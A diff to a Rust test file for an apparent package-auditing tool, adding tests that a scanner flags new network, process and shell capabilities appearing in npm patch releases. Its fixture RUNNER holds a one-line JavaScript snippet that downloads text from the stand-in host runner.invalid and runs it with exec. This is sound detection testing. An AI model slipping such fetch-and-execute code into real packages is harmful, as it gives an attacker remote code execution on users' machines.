@@ -16,16 +16,21 @@ use url::Url;
 
 /// A fresh store, fresh fake ecosystems, and a clock that moves a second at each look.
 struct Scene {
-    eco: FakeEcosystem,
+    eco: Arc<FakeEcosystem>,
     folder: TempDir,
     time: Arc<AtomicI64>,
 }
 
 impl Scene {
     fn new() -> Self {
+        Self::with(Arc::new(FakeEcosystem::start()))
+    }
+
+    /// A fresh store beside the same ecosystems.
+    fn with(eco: Arc<FakeEcosystem>) -> Self {
         let folder = tempfile::tempdir().unwrap();
         std::fs::create_dir(folder.path().join("project")).unwrap();
-        Self { eco: FakeEcosystem::start(), folder, time: Arc::new(AtomicI64::new(1_776_248_621_000)) }
+        Self { eco, folder, time: Arc::new(AtomicI64::new(1_776_248_621_000)) }
     }
 
     fn file(&self, name: &str, text: &str) -> &Self {
@@ -324,4 +329,89 @@ async fn refusals_and_emptiness_are_not_a_pass() {
     assert_eq!(audit.refused[0].at.to_string(), "requirements.txt:1");
     scene.file("requirements.txt", "# nothing\n");
     assert_eq!(lines(&scene.audit().await), "undecided");
+}
+
+/// What the package always was.
+const CLEAN: &str = "exports.send = (send, body) => send(body);\n";
+/// Shows the technique and does nothing: the host does not exist.
+const RUNNER: &str = "const { exec } = require('child_process');\n\
+                      require('https').get('https://runner.invalid/x', (r) => r.on('data', (d) => exec(String(d))));\n";
+
+fn tool(version: &str, text: &str) -> NpmTarball {
+    NpmTarball::new("tool", version).file("index.js", text)
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_a_patch_release_brings_is_held_against_it_and_against_the_next() {
+    let scene = Scene::new();
+    scene.eco.npm.add(tool("1.0.0", CLEAN).build());
+    for version in ["1.0.1", "1.0.2"] {
+        scene.eco.npm.add(tool(version, &format!("{CLEAN}{RUNNER}")).build());
+    }
+    scene.eco.npm.add(tool("1.1.0", CLEAN).build());
+    let mut found = String::new();
+    for version in ["1.0.0", "1.0.1", "1.0.2", "1.1.0"] {
+        scene.file("package.json", &format!(r#"{{"dependencies": {{"tool": "{version}"}}}}"#));
+        let audit = scene.audit().await;
+        let payload = audit.rows[0].certificate().unwrap().payload();
+        let since = payload.delta.as_ref().map_or("no earlier version", |delta| delta.summary.as_str());
+        found += &format!("{version} {}: {since}\n", payload.security_level);
+        let told = audit.package_analysis(&PriceTable::default()).packages[0].new_since.is_some();
+        assert_eq!(told, payload.security_level > SecurityLevel::Clear);
+        let unknown = payload.disclosures.iter().any(|line| line.starts_with("No earlier version was certified"));
+        assert_eq!(unknown, payload.delta.is_none());
+    }
+    insta::assert_snapshot!(found, @r"
+    1.0.0 CLEAR: no earlier version
+    1.0.1 CAUTION: new since 1.0.0 (patch step): able to: network-client, process, shell; hosts: runner.invalid
+    1.0.2 CAUTION: new since 1.0.0 (patch step): able to: network-client, process, shell; hosts: runner.invalid
+    1.1.0 CLEAR: nothing new since 1.0.0 (minor step)
+    ");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_new_ruleset_does_not_make_old_code_look_new() {
+    let scene = Scene::new();
+    let text = format!("{CLEAN}{RUNNER}");
+    scene.eco.npm.add(tool("1.0.0", &text).build());
+    scene.eco.npm.add(tool("1.0.1", &text).package_json(serde_json::json!({"bin": "index.js"})).build());
+    scene.file("package.json", r#"{"dependencies": {"tool": "1.0.0"}}"#);
+    let first = scene.audit().await;
+    let certificate = first.rows[0].certificate().unwrap();
+    let sealed = scene.hall(false).await.store().certificate(certificate.id()).await.unwrap().unwrap();
+
+    // The same certificate as an older ruleset would have sealed it, which saw nothing.
+    let mut payload = certificate.payload().clone();
+    payload.ruleset_version = "2020.1.1".to_owned();
+    let mut report: Report = serde_json::from_slice(&sealed.report).unwrap();
+    report.ruleset = "2020.1.1".to_owned();
+    for distribution in &mut report.distributions {
+        distribution.findings.clear();
+        distribution.capabilities.clear();
+        distribution.hosts.clear();
+    }
+    let older = sigma_store::Sealed {
+        certificate: sigma_certificate::PackageCertificate::seal(payload.clone()).unwrap(),
+        report: serde_json::to_vec(&report).unwrap(),
+        round: sealed.round,
+    };
+    let bytes = tool("1.0.0", &text).build().bytes;
+    for kept in [false, true] {
+        let scene = Scene::with(scene.eco.clone());
+        let hall = scene.hall(false).await;
+        hall.store().insert(&older).await.unwrap();
+        if kept {
+            let entry = &payload.distributions[0];
+            let (sha256, sha512, sha1, size) = (entry.sha256, entry.sha512, entry.sha1, entry.size);
+            let file = hall.store().staging().join("tool");
+            std::fs::write(&file, &bytes).unwrap();
+            hall.store().blobs().adopt(&file, &Digests { sha256, sha512, sha1, size }).await.unwrap();
+        }
+        scene.file("package.json", r#"{"dependencies": {"tool": "1.0.1"}}"#);
+        let audit = scene.audit().await;
+        let delta = audit.rows[0].certificate().unwrap().payload().delta.clone().unwrap();
+        assert_eq!((delta.entry_points.as_slice(), delta.capabilities.len()), (&["index.js".to_owned()][..], 0));
+        assert_eq!(delta.uncompared.is_empty(), kept, "{delta:#?}");
+        assert_eq!(delta.previous_ruleset_version == "2020.1.1", !kept);
+    }
 }
